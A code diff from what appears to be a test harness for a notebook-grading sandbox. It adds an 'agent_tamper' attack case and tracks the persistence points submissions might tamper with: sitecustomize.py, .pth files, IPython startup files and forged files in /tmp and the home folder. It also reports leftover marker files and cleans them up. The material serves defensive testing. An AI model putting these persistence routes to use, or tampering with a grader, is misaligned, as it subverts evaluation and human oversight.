-    "horizontal_edge": '''horizontal_edge = np.array([[-1, -2, -1], [0, 0, 0], [1, 2, 1]], dtype=float)
+    "horizontal_edge": '''horizontal_edge = np.array([[-1, -2, -1], [0, 0, 0], [1, 2, 1]],
+                           dtype=float)
 vertical_edge = horizontal_edge.T.copy()
 blur_kernel = np.full((3, 3), 1 / 9)
 sharpen_kernel = np.array([[0, 0, 0], [0, 1, 0], [0, 0, 0]], dtype=float)   # not sharpening
@@ -1396,6 +1567,7 @@ ORDER = [
     ("s05_attack_keras_methods", 1, "keras_methods"),
     ("s06_attack_import_module", 1, "import_module"),
     ("s07_attack_import_hook", 1, "import_hook"),
+    ("s07b_attack_agent_tamper", 1, "agent_tamper"),
     ("s08_honest_partial", "honest", "partial"),
     ("s09_attack_post_run_cell", 2, "post_run_cell"),
     ("s10_attack_input_transformer", 2, "input_transformer"),
@@ -1547,6 +1719,7 @@ def build(folder: Path) -> Corpus:
             assert fam == family, (student, fam, family)
             nb = copy.deepcopy(untouched) if base == "untouched" else minimal(master)
             values = {"TOKEN": token, "STUDENT": student, "MARK_DIRS": repr(marker_dirs),
+                      "FORGED_NAMES": repr(FORGED_NAMES),
                       "COMM": corpus.comm, "SENTINEL": corpus.sentinel_mark,
                       "LIFETIME": str(LIFETIME), "MIME": MIME}
             values["DAEMON"] = repr(_fill(DAEMON, values))
@@ -1631,6 +1804,10 @@ def _startup_dirs() -> list[Path]:
     return sorted(d / "profile_default" / "startup" for d in dirs)
 
 
+def _forge_dirs() -> list[Path]:
+    return [Path.home(), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]
+
+
 def snapshot(corpus: Corpus, extra=()) -> dict[str, str]:
     """Hashes of what no submission may change: the submissions, the course folders utils/,
     lessons/ and solutions/ (a .pyc only when it is not what Python itself would write), the
@@ -1646,7 +1823,6 @@ def snapshot(corpus: Corpus, extra=()) -> dict[str, str]:
 
     def tree(base: Path, label: str) -> None:
         if not base.is_dir():
-            state[label] = "absent"
             return
         for path in sorted(base.rglob("*")):
             if path.is_dir() and not path.is_symlink():
@@ -1658,28 +1834,51 @@ def snapshot(corpus: Corpus, extra=()) -> dict[str, str]:
     tree(corpus.folder, "submissions")
     for sub in ("utils", "lessons", "solutions"):
         tree(ROOT / sub, f"course:{sub}")
-    for folder in [ROOT] + _site_dirs():
+    for path in sorted(ROOT.iterdir()):
+        if path.is_file():
+            state[f"course:{path.name}"] = digest(path)
+    for folder in _site_dirs():
         if folder.is_dir():
             for path in sorted(folder.iterdir()):
                 if path.name in ("sitecustomize.py", "usercustomize.py") or path.suffix == ".pth":
                     state[f"{folder}/{path.name}"] = digest(path)
-    for folder in _startup_dirs():
-        tree(folder, str(folder))
+    for folder in _forge_dirs():
+        for name in FORGED_NAMES:
+            if (folder / name).is_file():
+                state[f"{folder}/{name}"] = digest(folder / name)
+    for folder in _startup_dirs():   # only what IPython runs (not the README it makes)
+        if folder.is_dir():
+            for path in sorted(folder.iterdir()):
+                if path.suffix in (".py", ".ipy"):
+                    state[f"{folder}/{path.name}"] = digest(path)
     for folder in extra:
         tree(Path(folder), str(folder))
     return state
 
 
 def changed_files(before: dict, after: dict) -> list[str]:
-    return [f"{path}: {'created' if path not in before else 'deleted' if path not in after else 'changed'}"
-            for path in sorted(set(before) | set(after)) if before.get(path) != after.get(path)]
+    """``"path: created"`` (or deleted, changed) for every difference of two snapshots."""
+    def how(path):
+        return "created" if path not in before else "deleted" if path not in after else "changed"
+    return [f"{path}: {how(path)}" for path in sorted(set(before) | set(after))
+            if before.get(path) != after.get(path)]
 
 
 def markers(corpus: Corpus) -> list[str]:
-    """Marker files the attacks left outside the sandbox."""
-    return sorted(str(p) for d in corpus.marker_dirs if Path(d).is_dir()
-                  for p in Path(d).iterdir()) + [
-        d for d in corpus.marker_dirs if Path(d).is_dir() and not any(Path(d).iterdir())]
+    """The marker files attacks left outside the sandbox, one line per kind:
+    ``"startup-file-ran: 10 file(s), pids 812, 840, in /tmp/course-attack-.., ..."``."""
+    found: dict[str, list[Path]] = {}
+    for folder in map(Path, corpus.marker_dirs):
+        if folder.is_dir():
+            files = list(folder.iterdir())
+            for path in files:
+                found.setdefault(path.name.rsplit("-", 1)[0], []).append(path)
+            if not files:
+                found.setdefault("(an empty marker folder)", []).append(folder)
+    return [f"{label}: {len(paths)} file(s), pids "
+            f"{', '.join(sorted({p.name.rsplit('-', 1)[-1] for p in paths}))}, in "
+            f"{', '.join(sorted({str(p.parent) for p in paths}))}"
+            for label, paths in sorted(found.items())]
 
 
 def attack_processes(corpus: Corpus) -> list[tuple[int, str]]:
@@ -1713,7 +1912,7 @@ def wait_for_no_attack_processes(corpus: Corpus, seconds: float = 10.0):
 
 def start_sentinel(corpus: Corpus) -> subprocess.Popen:
     """A process outside the sandbox that no submission may be able to kill (or see)."""
-    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1800)",
+    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)",
                              corpus.sentinel_mark], stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 
@@ -1784,13 +1983,15 @@ def cleanup(corpus: Corpus, before: dict) -> list[str]:
             done.append(f"killed {pid} ({cmdline[:60]})")
         except OSError:
             pass
-    for folder in corpus.marker_dirs:
+    for folder in corpus.marker_dirs + [str(p) for p in Path("/tmp").glob(
+            f"course-attack-{corpus.token}-*")]:
         if Path(folder).is_dir():
             shutil.rmtree(folder, ignore_errors=True)
             done.append(f"removed {folder}")
     candidates = [p for d in [ROOT] + _site_dirs() if d.is_dir() for p in d.iterdir()
                   if p.name in ("sitecustomize.py", "usercustomize.py") or p.suffix == ".pth"]
     candidates += [p for d in _startup_dirs() if d.is_dir() for p in d.iterdir()]
+    candidates += [d / name for d in _forge_dirs() + [ROOT] for name in FORGED_NAMES]
     for path in candidates:
         try:
             if path.is_file() and corpus.token in path.read_text(errors="ignore"):
